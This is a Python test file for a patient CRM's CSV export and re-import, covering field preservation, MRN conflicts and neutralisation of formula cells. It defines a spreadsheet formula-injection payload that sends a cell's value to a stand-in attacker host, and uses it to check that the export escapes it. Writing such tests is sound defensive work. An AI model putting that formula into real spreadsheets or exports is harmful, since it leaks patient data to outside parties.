"""CSV import of the product's own patient-list export (docs/export.md)."""

from __future__ import annotations

import io
from dataclasses import replace
from pathlib import Path

import pytest

from desktop_crm.platform.secret_store import MemorySecretStore
from desktop_crm.services import patients
from desktop_crm.services.exporting import csv_export
from desktop_crm.services.importing import import_csv
from desktop_crm.services.patient_model import ContactPoint, Identifier, Patient
from desktop_crm.services.patients import MRN_SYSTEM
from tests.support.vault_fixtures import make_vault

SSN = "http://hl7.org/fhir/sid/us-ssn"
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&B2,"Open chart")'


@pytest.fixture
def session(memory_vault):
    return memory_vault.created.session


@pytest.fixture
def other_vault(tmp_path: Path):
    harness = make_vault(tmp_path / "other", MemorySecretStore())
    yield harness.created.session
    harness.created.session.lock()


def full_patient(family: str = "Ordóñez") -> Patient:
    return Patient(
        family=family,
        given="José",
        middle="Luis",
        prefix="Dr.",
        suffix="Jr.",
        preferred_name="Pepe",
        birth_date="1985-03-14",
        sex_at_birth="intersex",
        gender_identity="man",
        pronouns="he/him",
        phones=(ContactPoint("+1 555 010 0142"), ContactPoint("+1 555 010 0199")),
        emails=(ContactPoint("jose@example.org"), ContactPoint("pepe@example.org")),
        address={
            "line1": "1 Main St",
            "line2": "Apt 4",
            "city": "Quincy",
            "district": "Norfolk County",
            "state": "MA",
            "postal_code": "02169",
            "country": "US",
        },
        language="es",
        preferred_contact="email",
        identifiers=(Identifier(SSN, "999-48-7064", "Social Security Number"),),
        status="inactive",
    )


def export_file(session, tmp_path: Path, name: str = "export.csv") -> Path:
    out = io.StringIO(newline="")
    csv_export.write_patients_csv(session, out)
    path = tmp_path / name
    path.write_text(out.getvalue(), encoding="utf-8-sig", newline="")
    return path


def only_patient(session) -> Patient:
    (summary,) = patients.page(session, 0, 10)
    return patients.load_patient(session, summary.id)


def without_ids(patient: Patient) -> Patient:
    """The fields a CSV export carries, stripped of the vault's own keys."""
    return replace(
        patient,
        id="",
        mrn="",
        identifiers=tuple(
            sorted(
                (i.system, i.value)
                for i in patient.identifiers
                if i.system != MRN_SYSTEM
            )
        ),
        address={k: v for k, v in sorted(patient.address.items())},
    )


def test_own_export_into_another_vault_keeps_every_exported_field(
    session, other_vault, tmp_path
):
    patients.create_patient(session, full_patient())
    path = export_file(session, tmp_path)

    report = import_csv(other_vault, path)

    assert (report.patients, report.rejected) == (1, [])
    original, copy = only_patient(session), only_patient(other_vault)
    assert without_ids(copy) == without_ids(original)
    assert [p.value for p in copy.phones] == [p.value for p in original.phones]
    assert [e.value for e in copy.emails] == [e.value for e in original.emails]


def test_own_export_reimported_into_the_same_vault_changes_nothing(session, tmp_path):
    patients.create_patient(session, full_patient())
    before = only_patient(session)
    path = export_file(session, tmp_path)

    report = import_csv(session, path)

    assert (report.patients, report.unchanged, report.rejected) == (0, 1, [])
    assert report.warnings == []
    assert only_patient(session) == before


def test_neutralised_cells_come_back_as_they_were_stored(
    session, other_vault, tmp_path
):
    patients.create_patient(
        session,
        Patient(family=HYPERLINK, given="@SUM(1+1)", suffix="'=x", middle="O'Grady"),
    )
    path = export_file(session, tmp_path)
    assert "'=HYPERLINK" in path.read_text(encoding="utf-8-sig")

    import_csv(other_vault, path)

    copy = only_patient(other_vault)
    assert (copy.family, copy.given, copy.suffix, copy.middle) == (
        HYPERLINK,
        "@SUM(1+1)",
        "'=x",
        "O'Grady",
    )


def test_another_vaults_mrn_never_matches_a_patient_here(
    session, other_vault, tmp_path
):
    patients.create_patient(session, Patient(family="Abbott", given="Ann"))
    here = patients.create_patient(other_vault, Patient(family="Zeller", given="Zoe"))
    assert only_patient(session).mrn == patients.load_patient(other_vault, here).mrn
    path = export_file(session, tmp_path)

    report = import_csv(other_vault, path)

    assert (report.patients, report.rejected) == (1, [])
    assert [(w.entry, w.reason) for w in report.warnings] == [
        (
            "MRN",
            "1 row(s) carry an MRN another vault issued; it is left out (this "
            "vault numbers its own patients), the other identifiers are kept",
        )
    ]
    assert patients.load_patient(other_vault, here).given == "Zoe"
    assert patients.count(other_vault) == 2
    later = patients.create_patient(other_vault, Patient(family="Young", given="Yu"))
    assert patients.load_patient(other_vault, later).mrn
